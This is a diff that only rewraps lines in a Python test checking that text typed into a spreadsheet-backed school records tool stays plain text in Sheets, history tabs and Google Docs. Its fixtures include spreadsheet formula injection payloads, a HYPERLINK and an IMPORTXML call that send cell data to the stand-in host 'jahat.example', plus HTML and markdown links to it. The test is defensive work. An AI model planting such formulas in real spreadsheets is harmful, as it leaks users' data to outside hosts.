@@ -1,4 +1,5 @@
-"""What people type stays text wherever it goes: into other tabs, into Riwayat, into Google Docs and their names."""
+"""What people type stays text wherever it goes: into other tabs, into Riwayat, into Google Docs and
+their names."""
 
 from __future__ import annotations
 
@@ -19,7 +20,9 @@ from tests.terminal.desk import Desk
 JAHAT = "https://jahat.example"
 FORMULA = f'=HYPERLINK("{JAHAT}/?x="&A1;"klik")'
 TEXTS = {
-    "Upaya Mempelajari": f'{FORMULA} <a href="{JAHAT}">klik</a> <img src="{JAHAT}/x.png"> [klik]({JAHAT})',
+    "Upaya Mempelajari": (
+        f'{FORMULA} <a href="{JAHAT}">klik</a> <img src="{JAHAT}/x.png"> [klik]({JAHAT})'
+    ),
     "Kelas": "@SUM(1;2)",
     "Catatan KS": f'+IMPORTXML("{JAHAT}";"//a")',
 }
@@ -36,7 +39,9 @@ def test_nothing_that_was_typed_becomes_a_formula_a_link_or_a_picture(desk: Desk
     assert made == {"G001", "G002", "G003"}
     history = desk.at_work("history", "G003", "--json").json["versions"]
     (number,) = (each["number"] for each in history if each["text"] == TEXTS["Upaya Mempelajari"])
-    back = desk.at_work("restore", "G003", "A", "Upaya Mempelajari", "--version", str(number), "--json")
+    back = desk.at_work(
+        "restore", "G003", "A", "Upaya Mempelajari", "--version", str(number), "--json"
+    )
     assert back.json["text"] == TEXTS["Upaya Mempelajari"]
     assert desk.at_work("documents", "--recap", "--json").code == 0
     assert desk.at_work("documents", "--json").code == 0
@@ -61,11 +66,16 @@ def people_type(here: Ground) -> None:
 def assert_cells_are_text(here: Ground) -> None:
     cells = list(all_cells(here))
     assert not [cell for cell in cells if "formulaValue" in cell.get("userEnteredValue", {})]
-    links = [cell.get("userEnteredFormat", {}).get("textFormat", {}).get("link", {}).get("uri") for cell in cells]
+    links = [
+        cell.get("userEnteredFormat", {}).get("textFormat", {}).get("link", {}).get("uri")
+        for cell in cells
+    ]
     assert not [link for link in links if link and not link.startswith(OURS)]
     shown = [cell.get("userEnteredValue", {}).get("stringValue", "") for cell in cells]
     for text in (NAME, *TEXTS.values()):
-        assert sum(text in each for each in shown) > 1, f"typed once, and copied at least to Riwayat: {text}"
+        assert sum(text in each for each in shown) > 1, (
+            f"typed once, and copied at least to Riwayat: {text}"
+        )
 
 
 def all_cells(here: Ground) -> Iterator[dict[str, Any]]:
@@ -74,7 +84,11 @@ def all_cells(here: Ground) -> Iterator[dict[str, Any]]:
 
 def assert_documents_are_text(here: Ground) -> None:
     docs = [each for each in here.drive.files.values() if each.mime_type == DOCUMENT]
-    (mine,) = (each for each in docs if each.name.startswith("2026_A-Persiapan") and each.name.endswith("G003"))
+    (mine,) = (
+        each
+        for each in docs
+        if each.name.startswith("2026_A-Persiapan") and each.name.endswith("G003")
+    )
     said = text_of(mine.content, mine.revisions[-1].media_type).replace("\xad", "")
     assert TEXTS["Upaya Mempelajari"] in said
     assert SETTINGS["Nama Sekolah"] in said
